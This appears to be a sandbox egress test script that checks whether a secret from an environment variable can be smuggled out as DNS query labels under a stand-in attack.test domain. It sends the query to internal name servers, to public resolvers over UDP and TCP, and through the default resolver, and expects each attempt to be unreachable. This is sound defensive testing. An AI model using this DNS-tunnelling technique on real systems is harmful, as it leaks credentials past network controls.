# A secret as a name asked of an outside resolver, of our own name server, and of the default one.
need python3 getent curl
harmless allowed "https://pictures.wild.attack.test:$PORT/"
python <<'PY'
secret = os.environ["KNOWN_GENERIC"]
labels = [secret[i:i+30] for i in range(0, len(secret), 30)] + ["wild", "attack", "test"]
query = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0\0\x01\0\x01"
control("direct", "connected", reach("egress", 9099))
datagrams()
names = int(os.environ["NAMES_PORT"])
for address in os.environ["COLLECTOR_IPS"].split():
    attack("our name server at " + address, "unreachable", reach(address, names, socket.SOCK_DGRAM, say_something=query))
for address in ["8.8.8.8", "1.1.1.1"]:
    attack("outside resolver " + address, "unreachable", reach(address, 53, socket.SOCK_DGRAM, say_something=query))
    attack("outside resolver over TCP " + address, "unreachable", reach(address, 53, say_something=query))
try:
    socket.getaddrinfo(".".join(labels), 443)
    got = "resolved"
except OSError:
    got = "unreachable"
attack("default resolver", "unreachable", got)
PY
attack getent unreachable "$(getent ahosts "$KNOWN_GENERIC.wild.attack.test" >/dev/null && echo resolved || echo unreachable)"
